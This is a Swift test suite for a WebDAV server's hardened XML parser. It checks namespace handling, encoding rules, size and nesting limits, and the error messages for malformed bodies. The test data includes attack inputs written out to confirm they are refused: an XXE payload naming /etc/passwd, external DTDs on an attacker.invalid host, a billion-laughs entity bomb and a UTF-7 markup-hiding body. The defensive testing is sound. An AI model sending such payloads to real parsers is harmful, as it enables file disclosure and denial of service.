import Foundation
import Testing

@testable import WebDAV

/// Parses a string as a body.
func parse(_ text: String, limits: SafeXMLParser.Limits = .init()) throws(WebDAVError)
  -> XMLElement
{
  try SafeXMLParser.parse(Array(text.utf8), limits: limits)
}

/// The error a body gets, or nil when it parses.
func refusal(_ text: String, limits: SafeXMLParser.Limits = .init()) -> WebDAVError? {
  do {
    _ = try parse(text, limits: limits)
    return nil
  } catch {
    return error
  }
}

@Suite struct SafeXMLParserTests {
  @Test func namesAreResolvedToNamespacesWhateverThePrefix() throws {
    let root = try parse(
      """
      <?xml version="1.0" encoding="utf-8"?>
      <x0:propfind xmlns:x0="DAV:" xmlns:x1="urn:ietf:params:xml:ns:caldav">
       <x0:prop><x1:calendar-home-set/><getctag xmlns="http://calendarserver.org/ns/"/>
       <plain/></x0:prop>
      </x0:propfind>
      """)
    #expect(root.name == .dav("propfind"))
    let prop = try #require(root.child(.dav("prop")))
    #expect(
      prop.childNames == [
        .calDAV("calendar-home-set"), .calendarServer("getctag"), XMLName("", "plain"),
      ])
  }

  @Test func aDefaultNamespaceAppliesToUnprefixedDescendants() throws {
    let root = try parse(
      "<sync-collection xmlns=\"DAV:\"><sync-token/><prop><getetag/></prop></sync-collection>")
    #expect(root.name == .dav("sync-collection"))
    #expect(root.child(.dav("prop"))?.childNames == [.dav("getetag")])
  }

  @Test func textKeepsEntitiesCharacterReferencesAndCDATA() throws {
    let root = try parse(
      "<d:displayname xmlns:d=\"DAV:\">Groceries &amp; more &#x2713; &lt;3 <![CDATA[<b>&amp;</b>]]></d:displayname>"
    )
    #expect(root.text == "Groceries & more ✓ <3 <b>&amp;</b>")
  }

  @Test func attributesInANamespaceAreKeyedByIt() throws {
    let root = try parse(
      "<a xmlns:x=\"urn:x\" x:kind=\"k\" name=\"VTODO\" xml:lang=\"de\"/>")
    #expect(root.attributes["name"] == "VTODO")
    #expect(root.attributes["{urn:x}kind"] == "k")
    #expect(root.attributes["{http://www.w3.org/XML/1998/namespace}lang"] == "de")
  }

  @Test func aByteOrderMarkAndLeadingBlanksAreFine() throws {
    let body: [UInt8] = [0xEF, 0xBB, 0xBF] + Array("\r\n  <propfind xmlns=\"DAV:\"/>".utf8)
    #expect(try SafeXMLParser.parse(body).name == .dav("propfind"))
    #expect(try SafeXMLParser.parse(Data(body)).name == .dav("propfind"))
  }

  @Test func otherEncodingsThanUTF8AreRefused() throws {
    let body: [UInt8] =
      Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a xmlns=\"DAV:\">K".utf8) + [0xE4]
      + Array("se</a>".utf8)
    let error = try #require(throws: WebDAVError.self) { try SafeXMLParser.parse(body) }
    #expect(
      error.message == "The XML body declares the encoding 'iso-8859-1'; only UTF-8 is accepted.")
  }

  // MARK: - Refused bodies, each with a message that says why

  @Test(arguments: [
    ("", "The XML body is empty."),
    ("   \n", "The XML body is empty."),
    ("hello", "The body is not XML: it starts with 'hello'."),
    ("{\"json\": true}", "The body is not XML"),
    ("<a><b></a>", "a closing tag does not match the element it closes (line 1, column"),
    ("<a>\n<b>\n</a>", "(line 3, column"),
    ("<a", "The XML body ends before its root element is closed"),
    ("<a><b/>", "an element is not closed, or there is content after the root element"),
    ("<a>&nbsp;</a>", "uses the entity '&nbsp;', which is not defined"),
    ("<p:a/>", "it uses a namespace prefix that is not declared"),
    ("<a/><b/>", "there is content after the root element (line 1, column"),
    ("<a x=1/>", "an attribute is not written as name=\"value\""),
    ("<a>\u{1}</a>", "a character XML does not allow"),
  ])
  func malformedBodiesAreRefusedNamingTheProblem(body: String, message: String) throws {
    let error = try #require(refusal(body))
    #expect(error.status == 400)
    #expect(error.precondition == nil)
    #expect(error.message.contains(message), "\(error.message)")
  }

  @Test func utf16IsRefusedWithAMessageSayingToUseUTF8() throws {
    var body: [UInt8] = [0xFF, 0xFE]
    for unit in "<a/>".utf16 { body += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
    let error = try #require(throws: WebDAVError.self) { try SafeXMLParser.parse(body) }
    #expect(error.message == "The XML body is in UTF-16 or UTF-32; send it in UTF-8.")
  }

  @Test func anEncodingThatCouldHideMarkupIsRefused() throws {
    let error = try #require(
      refusal("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-a/+AD4-"))
    #expect(error.message == "The XML body declares the encoding 'utf-7'; only UTF-8 is accepted.")
  }

  // MARK: - XXE and entity expansion

  @Test func externalEntitiesAreRefusedBeforeAnythingIsRead() throws {
    // The classic XXE payload: an external entity naming a local file.
    let xxe = """
      <?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE propfind [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
      <D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>
      """
    let error = try #require(refusal(xxe))
    #expect(error.status == 400)
    #expect(
      error.message
        == "The XML body has a <!DOCTYPE declaration at line 2, column 1: DOCTYPE and entity declarations are not accepted."
    )
    // Through the request parsers too, and nothing of the file reaches a value.
    #expect(throws: WebDAVError.self) { try PropfindRequest.parse(Array(xxe.utf8)) }
  }

  @Test func parameterEntitiesAndExternalDTDsAreRefused() throws {
    for body in [
      "<!DOCTYPE a SYSTEM \"http://attacker.invalid/evil.dtd\"><a/>",
      "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.invalid/x\"> %p;]><a/>",
      "<!DOCTYPE a PUBLIC \"-//X//Y\" \"http://attacker.invalid/y.dtd\"><a/>",
      "<?xml version=\"1.0\"?><!-- harmless --><!doctype a><a/>",
    ] {
      let error = try #require(refusal(body), "\(body)")
      #expect(error.message.contains("DOCTYPE and entity declarations are not accepted"))
    }
  }

  @Test func theBillionLaughsAreRefusedAtOnce() throws {
    // Ten levels of ten references each: 10^9 "lol"s, 3 GB, if expanded.
    var body = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
    body += " <!ENTITY lol1 \"" + String(repeating: "&lol;", count: 10) + "\">\n"
    for level in 2...9 {
      body +=
        " <!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
    }
    body += "]>\n<lolz>&lol9;</lolz>"
    let start = ContinuousClock.now
    let error = try #require(refusal(body))
    #expect(error.message.contains("<!DOCTYPE declaration at line 2, column 1"))
    #expect(ContinuousClock.now - start < .seconds(1))
  }

  @Test func markupInCommentsAndCDATAIsNotMistakenForADeclaration() throws {
    let root = try parse(
      "<?xml version=\"1.0\"?><!-- <!DOCTYPE x> <?pi?> --><a><![CDATA[<!ENTITY y \"z\"><?pi?>]]></a>"
    )
    #expect(root.text == "<!ENTITY y \"z\"><?pi?>")
  }

  @Test func processingInstructionsAreRefused() throws {
    // FoundationXML crashes the process on a processing instruction without data (the
    // WebDAVRequests fuzzer found it: Fuzzing/Crashes/WebDAVRequests/processing-instruction.xml).
    for (body, message) in [
      (
        "<?x?><a/>",
        "The XML body has a processing instruction <?x?> at line 1, column 1; only the XML declaration is accepted, at the start."
      ),
      (
        "<a>\n <?xml-stylesheet href=\"s.css\"?></a>",
        "The XML body has a processing instruction <?xml-stylesheet?> at line 2, column 2; only the XML declaration is accepted, at the start."
      ),
      (
        "<a/><?xml version=\"1.0\"?>",
        "The XML body has a processing instruction <?xml?> at line 1, column 5; only the XML declaration is accepted, at the start."
      ),
      ("<?xml version=\"1.0\"", "The XML body's XML declaration is never closed with '?>'."),
      (
        "<?xml v=\"><a></a><?x?>",
        "The XML body's XML declaration has '<', '>' or '&' in it; write it as <?xml version=\"1.0\" encoding=\"utf-8\"?>."
      ),
    ] {
      #expect(refusal(body)?.message == message, "\(body)")
    }
  }

  // MARK: - Limits

  @Test func aBodyOverTheByteLimitIsRefusedSayingHowLarge() throws {
    let body = "<a>" + String(repeating: "x", count: 2_000) + "</a>"
    let error = try #require(refusal(body, limits: .init(maxBytes: 1_000)))
    #expect(error.message == "The XML body is 2007 bytes; at most 1000 are accepted.")
  }

  @Test func nestingDeeperThanTheLimitIsRefused() throws {
    let deep = String(repeating: "<a>", count: 65) + String(repeating: "</a>", count: 65)
    let error = try #require(refusal(deep))
    #expect(error.message.hasPrefix("The XML body nests elements more than 64 deep"))
    // 64 levels are fine.
    let ok = String(repeating: "<a>", count: 64) + String(repeating: "</a>", count: 64)
    #expect(refusal(ok) == nil)
  }

  @Test func ahundredThousandLevelsAreRefusedQuickly() throws {
    let deep = String(repeating: "<a>", count: 100_000)
    let start = ContinuousClock.now
    let error = try #require(refusal(deep))
    #expect(error.message.contains("more than 64 deep"))
    // Linear work: 0.6 s in a debug build on the loaded build machine; quadratic would be hours.
    #expect(ContinuousClock.now - start < .seconds(5))
  }

  @Test func moreElementsThanTheLimitAreRefused() throws {
    let many = "<a>" + String(repeating: "<b/>", count: 100) + "</a>"
    let error = try #require(refusal(many, limits: .init(maxElements: 50)))
    #expect(error.message.hasPrefix("The XML body has more than 50 elements"))
    #expect(refusal(many, limits: .init(maxElements: 101)) == nil)
  }
}

@Suite struct EncodingTests {
  @Test func invalidUTF8IsRefusedBeforeFoundationXMLSeesIt() throws {
    // The input the WebDAVRequests fuzzer found: a byte 0xD3 inside an element name made
    // libxml2 fall back to Latin-1 and FoundationXML trap (Fuzzing/Crashes/WebDAVRequests).
    var body = Array("<D:propertyupdate xmlns:D=\"DAV:\"><D:set><D:p".utf8)
    body += [0xD3] + Array("op/></D:set></D:propertyupdate>".utf8)
    let error = try #require(throws: WebDAVError.self) { try SafeXMLParser.parse(body) }
    #expect(
      error.message
        == "The XML body is not valid UTF-8: byte 0xD3 at line 1, column 45 is not part of a character."
    )
    #expect(throws: WebDAVError.self) { try ProppatchRequest.parse(body) }
  }

  @Test func aDeclaredASCIIBodyMustBeASCII() throws {
    let body = Array("<?xml version=\"1.0\" encoding=\"US-ASCII\"?>\n<a>Käse</a>".utf8)
    let error = try #require(throws: WebDAVError.self) { try SafeXMLParser.parse(body) }
    #expect(
      error.message == "The XML body declares US-ASCII but has the byte 0xC3 at line 2, column 5.")
  }

  @Test func theFuzzersCrashesAreRefusedCleanly() throws {
    let folder = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
      .deletingLastPathComponent().deletingLastPathComponent()
      .appendingPathComponent("Fuzzing/Crashes/WebDAVRequests")
    let files = try FileManager.default.contentsOfDirectory(atPath: folder.path)
    #expect(!files.isEmpty)
    for file in files {
      let body = try [UInt8](Data(contentsOf: folder.appendingPathComponent(file)))
      #expect(throws: WebDAVError.self, "\(file)") { try SafeXMLParser.parse(body) }
    }
  }
}

@Suite struct ConcurrentParsingTests {
  @Test func parsersOnManyThreadsAtOnceEachGetTheirOwnTree() async throws {
    // The server parses bodies on many connections at once; FoundationXML keeps per-thread
    // parser state, so concurrent parses must not see each other's elements.
    let results = await withTaskGroup(of: Bool.self) { group in
      for task in 0..<8 {
        group.addTask {
          for round in 0..<200 {
            let name = "p\(task)x\(round)"
            let body = "<D:propfind xmlns:D=\"DAV:\"><D:prop><D:\(name)/></D:prop></D:propfind>"
            guard case .prop(let names)? = try? PropfindRequest.parse(Array(body.utf8)),
              names == [.dav(name)]
            else { return false }
            if refusal("<a><b></a>") == nil { return false }
          }
          return true
        }
      }
      return await group.reduce(into: []) { $0.append($1) }
    }
    #expect(results == Array(repeating: true, count: 8))
  }
}
